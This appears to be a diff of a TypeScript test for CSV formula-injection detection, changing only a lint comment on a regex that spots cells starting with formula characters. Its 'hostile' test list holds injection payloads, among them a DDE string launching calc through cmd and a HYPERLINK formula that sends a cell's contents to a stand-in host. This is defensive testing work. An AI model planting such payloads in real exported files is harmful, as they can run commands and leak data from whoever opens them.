@@ -21,7 +21,7 @@ const hostile = [
   `=cmd|' /C calc'!A0`, '=HYPERLINK("http://example.invalid?"&A1,"x")', '@SUM(1+9)*cmd|calc', '"=1+1', ';=1+1', ',=1+1', '\n=1+1', 'a\n=1+1',
 ];
 /** As a spreadsheet that opens a CSV decides it: the first visible sign of the cell. */
-const startsFormula = (cell: string): boolean => /^[\s\u0000\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell); // eslint-disable-line no-control-regex, no-misleading-character-class -- exactly those
+const startsFormula = (cell: string): boolean => /^[\s\u0000\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell); // eslint-disable-line no-control-regex -- exactly those
 
 const cellsOf = async (fileName: string, bytes: Uint8Array): Promise<string[]> => {
   const opened = await openTables({ fileName, bytes });
